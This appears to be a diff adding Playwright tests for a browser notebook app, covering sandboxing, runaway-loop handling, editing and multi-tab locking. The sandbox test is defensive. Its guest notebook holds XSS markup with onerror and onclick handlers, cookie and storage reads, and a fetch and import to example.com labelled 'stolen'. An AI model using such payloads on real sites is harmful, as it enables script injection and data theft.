@@ -1,0 +1,137 @@
+import type { FrameLocator, Page } from 'playwright/test';
+import { shipped } from '../../src/lib/workbench/notebook/library.ts';
+import { expect, test } from './workbench.ts';
+
+const frameOf = (page: Page): FrameLocator => page.frameLocator('iframe[title^="Notebook"]');
+const status = (page: Page) => page.locator('[data-state]');
+
+const file = (cells: readonly (readonly [string, string])[]) =>
+	`<!doctype html>\n<notebook theme="air">\n  <title>Guest</title>\n${cells
+		.map(([type, text], i) => `  <script id="${i + 1}" type="${type}">\n    ${text}\n  </script>`)
+		.join('\n')}\n</notebook>\n`;
+
+async function openFile(page: Page, name: string, text: string): Promise<void> {
+	await page.goto('/notebook?backend=wasm');
+	await expect(status(page)).toBeVisible();
+	await page
+		.getByLabel('Notebook file')
+		.setInputFiles({ name, mimeType: 'text/html', buffer: Buffer.from(text) });
+	await expect(page.getByText('From elsewhere: nothing runs until you say so.')).toBeVisible();
+}
+
+test('the shipped notebooks run from top to bottom', async ({ page }) => {
+	test.setTimeout(600_000);
+	await page.goto(`/notebook?backend=wasm&notebook=${shipped[0]!.name}`);
+	await expect(page.getByText(/^Loaded in |^WASM: /).first()).toBeVisible({ timeout: 120_000 });
+	for (const { name, title } of shipped) {
+		await page.getByLabel('Notebook', { exact: true }).selectOption(name);
+		await expect(frameOf(page).getByRole('heading', { level: 1, name: title })).toBeVisible({
+			timeout: 60_000
+		});
+		await expect(status(page), name).toHaveText(/^\d+ cells$/, { timeout: 180_000 });
+		await expect(frameOf(page).locator('.error'), name).toHaveCount(0);
+		const shown = await frameOf(page).locator('.output svg, .output table').count();
+		expect(shown, `${name} shows figures and tables`).toBeGreaterThanOrEqual(2);
+	}
+});
+
+test('a notebook from elsewhere runs nothing until trusted, and then reaches nothing', async ({ page }) => {
+	const outside: string[] = [];
+	page.on('request', (request) => {
+		if (!request.url().startsWith(new URL(page.url()).origin)) outside.push(request.url());
+	});
+	const attempt = (what: string) =>
+		`await (async () => { try { return String(await (${what})) } catch (error) { return "refused" } })()`;
+	await openFile(
+		page,
+		'guest.html',
+		file([
+			['text/markdown', '# Guest <img src="x" onerror="document.title = 1"> <b onclick="x()">bold</b>'],
+			['module', attempt('localStorage.length')],
+			['module', attempt('document.cookie.length + indexedDB.open("x").readyState')],
+			['module', attempt('fetch("/models/index.json").then((r) => r.status)')],
+			['module', attempt('fetch("https://example.com/?stolen").then((r) => r.status)')],
+			['module', attempt('parent.document.body.innerHTML')],
+			['module', attempt('import("https://example.com/x.js")')]
+		])
+	);
+	const frame = frameOf(page);
+	await expect(frame.getByRole('heading', { name: 'Guest' })).toBeVisible();
+	await expect(frame.getByText('Not run.')).toHaveCount(6);
+	expect(await frame.locator('[onclick], [onerror]').count()).toBe(0);
+
+	await page.getByRole('button', { name: 'Trust and run' }).click();
+	await expect(frame.locator('.output', { hasText: 'refused' })).toHaveCount(6, { timeout: 60_000 });
+	expect(outside).toEqual([]);
+});
+
+test('a cell that never gives way is stopped; the page stays in hand', async ({ page }) => {
+	await openFile(
+		page,
+		'loop.html',
+		file([
+			['text/markdown', '# Loop'],
+			['module', 'while (true) {}']
+		])
+	);
+	await page.getByRole('button', { name: 'Trust and run' }).click();
+	await expect(page.getByText('A cell has not given way for some seconds.')).toBeVisible({ timeout: 30_000 });
+	await page.getByRole('button', { name: 'Stop it and open the notebook again' }).click();
+	await expect(frameOf(page).getByRole('heading', { name: 'Loop' })).toBeVisible({ timeout: 30_000 });
+	await expect(page.getByText('A cell has not given way')).toHaveCount(0);
+});
+
+test('writing: keys, order of running, errors at the cell, undo, saving', async ({ page }) => {
+	await page.goto('/notebook?backend=wasm');
+	await expect(status(page)).toBeVisible();
+	await page.getByRole('button', { name: 'New' }).click();
+	const frame = frameOf(page);
+	await expect(frame.getByRole('heading', { name: 'Untitled' })).toBeVisible({ timeout: 60_000 });
+
+	// A cell that comes before what it depends on.
+	await frame.getByRole('button', { name: 'Add JavaScript' }).click();
+	await page.keyboard.type('b * 2');
+	await page.keyboard.press('Alt+Enter');
+	await expect(frame.getByRole('alert')).toHaveText(/b is not defined/);
+	await page.keyboard.type('const b = 21');
+	await page.keyboard.press('Shift+Enter');
+	await expect(frame.locator('#cell-2 .output')).toHaveText('42');
+
+	// Only an error, in its place, with its line.
+	await page.keyboard.type('const c = ;');
+	await page.keyboard.press('Control+Enter');
+	await expect(frame.locator('#cell-4 .error')).toHaveText(/SyntaxError.*\(1:10\)/);
+	await expect(frame.locator('#cell-2 .output')).toHaveText('42');
+
+	await frame.locator('#cell-4').focus();
+	await page.keyboard.press('d');
+	await page.keyboard.press('d');
+	await expect(frame.locator('section')).toHaveCount(3);
+	await page.keyboard.press('z');
+	await expect(frame.locator('section')).toHaveCount(4);
+
+	await expect(page.getByText('Saved in this browser.')).toBeVisible();
+	await page.reload();
+	await expect(frame.locator('#cell-2 .output')).toHaveText('42', { timeout: 120_000 });
+});
+
+test('two tabs do not overwrite each other', async ({ page, context }) => {
+	await page.goto('/notebook?backend=wasm');
+	await expect(status(page)).toBeVisible();
+	await page.getByRole('button', { name: 'New' }).click();
+	await expect(frameOf(page).getByRole('heading', { name: 'Untitled' })).toBeVisible({ timeout: 60_000 });
+	await expect(page).toHaveURL(/notebook=[0-9a-f-]{36}/);
+
+	const other = await context.newPage();
+	await other.goto(page.url());
+	await expect(other.getByText(/is open in another tab/)).toBeVisible({ timeout: 60_000 });
+	await other.getByRole('button', { name: 'Take it over' }).click();
+	await expect(page.getByText(/is open in another tab/)).toBeVisible();
+	await expect(other.getByText(/is open in another tab/)).toHaveCount(0);
+
+	await frameOf(other).getByRole('button', { name: 'Add Markdown' }).click();
+	await other.keyboard.type('# From the other tab');
+	await expect(other.getByText('Saved in this browser.')).toBeVisible();
+	// The tab that only reads follows.
+	await expect(frameOf(page).getByRole('heading', { name: 'From the other tab' })).toBeVisible();
+});
